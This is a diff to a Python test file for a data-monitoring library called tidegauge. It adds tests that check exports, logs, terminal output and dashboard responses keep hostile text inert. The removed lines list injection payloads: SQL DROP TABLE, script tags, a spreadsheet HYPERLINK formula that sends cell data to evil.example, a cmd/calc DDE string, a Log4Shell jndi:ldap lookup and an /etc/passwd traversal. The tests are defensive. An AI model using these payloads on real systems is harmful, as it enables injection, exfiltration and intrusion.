@@ -7,46 +7,35 @@ import json
 from contextlib import suppress
 from dataclasses import replace
 
+import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+import yaml
 from hypothesis import given
 from hypothesis import strategies as st
 from tidegauge.analyzers.core.errors import StateError
 from tidegauge.analyzers.core.formatting import for_terminal
 from tidegauge.analyzers.core.registry import STATE_MODULES
 from tidegauge.analyzers.core.state import READERS, read_state
+from tidegauge.analyzers.measures.counts import NumMatches
 from tidegauge.analyzers.measures.frequencies import FrequenciesAndNumRows
 from tidegauge.cli.main import run_command
 from tidegauge.cli.output import SafeTerminal
 from tidegauge.files.suite import load_suite
+from tidegauge.repository.exchange.files import csv_file, parquet_file
+from tidegauge.repository.exchange.openlineage import openlineage_event
+from tidegauge.repository.exchange.prometheus import prometheus_text
 from tidegauge.repository.maintenance.integrity import check
 from tidegauge.repository.store import artifacts
 from tidegauge.repository.store.artifacts import Payload
 from tidegauge.repository.testing.samples import commit, day, judged
 from tidegauge.rules.state import RecordCounts
+from tidegauge.widgets.source import Shown, Source
 
 import tidegauge as tg
+from tests.hostile import TEXTS
 from tests.paths import ROOT
-
-HOSTILE = {
-    "sql": "x'; DROP TABLE metric; --",
-    "sql like": "100%_\\",
-    "html": "<img src=x onerror=alert(1)></script><script>alert(2)</script>",
-    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
-    "formula plus": "+cmd|' /C calc'!A0",
-    "formula at": "@SUM(1+1)",
-    "terminal": "\x1b]0;owned\x07\x1b[2J\x9b31m",
-    "right to left": "\u202egnp.exe",
-    "log line": "ok\n2026-01-01 INFO all is well",
-    "format": "%s%n{0}{x.__class__}${jndi:ldap://evil.example/a}",
-    "path": "../../../../etc/passwd",
-    "null": "a\x00b",
-    "long": "x" * 900,
-    "quotes": "`'\"\\`",
-    "astral": "\U0001f4a5\u0301",
-}
-
 
 EVERY_DAY = {"sql", "html", "formula", "terminal", "null"}
 
@@ -54,7 +43,7 @@ EVERY_DAY = {"sql", "html", "formula", "terminal", "null"}
 @pytest.fixture(
     params=[
         pytest.param(text, id=name, marks=() if name in EVERY_DAY else pytest.mark.soak)
-        for name, text in HOSTILE.items()
+        for name, text in TEXTS.items()
     ]
 )
 def text(request):
@@ -102,6 +91,110 @@ def test_names_values_labels_and_tags_come_back_as_they_were(text, tmp_path, cap
     assert "<script>alert" not in html
 
 
+def filled(repository, text):
+    """Record a dataset whose names are all a text; return its name, and the text as it is stored."""
+    name = text.replace("\x00", "")
+    days = {"ds=2013-01-01": 10.0, "ds=2013-01-02": 10.0, "ds=2013-01-03": 99.0}
+    repository.record(name, text, days, instance=text, segment=f"s={text}")
+    repository.detect(name, [tg.Monitor({}, tg.SimpleThreshold(50))])
+    return name, text.replace("\x00", "\\x00")
+
+
+def test_exports_hold_texts_as_data(text, repo, tmp_path):
+    """Prometheus reads back what it was given; so do readers of JSON, CSV and Parquet, but for formulas."""
+    from prometheus_client.parser import text_string_to_metric_families
+
+    name, stored = filled(repo, text)
+    families = {f.name: f for f in text_string_to_metric_families(prometheus_text(repo))}
+    (sample,) = families["tidegauge_metric"].samples
+    labels = [sample.labels[key] for key in ("dataset", "name", "instance", "segment")]
+    assert labels == [name, stored, stored, f"s={stored}"]
+    repo.record(name, text, {"ds=2013-01-03": 1.0}, instance=f"all {text}")
+    event = json.loads(json.dumps(openlineage_event(repo, name), allow_nan=False))
+    assert event["inputs"][0]["name"] == name
+    for write, read in ((csv_file, pd.read_csv), (parquet_file, pd.read_parquet)):
+        assert write(repo.pages(name, segment=f"s={stored}"), tmp_path / "metrics") == 3
+        found = read(tmp_path / "metrics")
+        assert set(found["instance"].str.lstrip("'")) == {stored.lstrip("'")}
+        if write is csv_file:
+            assert not found["instance"].str.startswith(("=", "+", "@")).any()
+
+
+def test_log_lines_and_messages_stay_one_line(text, repo, caplog):
+    filled(repo, text)
+    with caplog.at_level("INFO", "tidegauge.incidents"):
+        (notice,) = tg.notify(repo, "log", severity="info")
+    assert not notice.error
+    said = caplog.records[-1].getMessage()
+    assert not set("\x00\x07\x1b\x9b\u202e") & set(said)
+    assert "\n2026-01-01 INFO" not in said
+
+
+def test_errors_on_terminals_hold_no_control_characters(text, tmp_path, capsys):
+    """Of arguments, of files that there are not, and of values in suite files."""
+    suite = tmp_path / "suite.yml"
+    suite.write_text(yaml.safe_dump({"dataset": "d", "path": "/t", "analyzers": [text]}))
+    db = ["--db", f"sqlite:///{tmp_path / 'r.db'}"]
+    url = text.replace("\x00", "")
+    for command in (
+        ["metrics", text, *db],
+        ["metrics", "d", "--as-of", text, *db],
+        ["db", "current", "--db", url],
+        ["db", "restore", url, *db],
+        ["import", "deequ", url, "--dataset", text, *db],
+        ["rules", "check", str(suite)],
+        [text],
+    ):
+        assert run_command(command) == 1, command
+        said = capsys.readouterr()
+        assert said.err
+        assert not set("\x00\x07\x1b\x9b\u202e") & set(said.out + said.err), command
+
+
+def test_suite_files_give_texts_back_or_refuse_them(text, tmp_path):
+    file = tmp_path / "suite.yml"
+    entry = {"Mean": {"column": text, "where": text}}
+    file.write_text(yaml.safe_dump({"dataset": text, "path": "/t", "analyzers": [entry]}))
+    try:
+        (found,) = load_suite(file).suite.analyzers
+    except tg.SuiteError:
+        return
+    assert (found.column, found.where) == (text, text)
+
+
+def test_states_are_found_by_any_name(text, repo):
+    repo.states(text).persist(tg.Size(), NumMatches(3))
+    assert repo.states(text).load(tg.Size()) == NumMatches(3)
+    assert not repo.artifacts.files()
+
+
+def test_every_question_of_the_dashboard_is_answered(text, tmp_path):
+    """With a text in the place of everything: errors are answers, and name no path of this machine."""
+    url = f"sqlite:///{tmp_path / 'r.db'}"
+    with tg.Repository(url) as repository:
+        filled(repository, text)
+    source = Source(Shown(url))
+    backend = source.backend()
+    keys = (
+        "dataset",
+        "table",
+        "series",
+        "partition",
+        "incident",
+        "name",
+        "by",
+        "view",
+        "action",
+        "text",
+    )
+    for ask in backend.questions:
+        for about in ({}, dict.fromkeys(keys, text), {"options": dict.fromkeys(keys, text)}):
+            told, _ = backend.answer({"id": text, "ask": ask, "about": about}, text)
+            json.dumps(told, allow_nan=False)
+            assert str(tmp_path) not in str(told.get("error"))
+    source.close()
+
+
 def test_errors_about_names_quote_them(text, repo):
     commit(repo, day(1))
     with pytest.raises(tg.TidegaugeError):
@@ -116,7 +209,7 @@ def test_errors_about_names_quote_them(text, repo):
 
 def test_a_terminal_gets_no_control_characters():
     screen = io.StringIO()
-    SafeTerminal(screen).write("".join(HOSTILE.values()) + "\x1b[1mbold\x1b[0m\n")
+    SafeTerminal(screen).write("".join(TEXTS.values()) + "\x1b[1mbold\x1b[0m\n")
     shown = screen.getvalue()
     assert "\x1b]" not in shown
     assert "\x1b[2J" not in shown
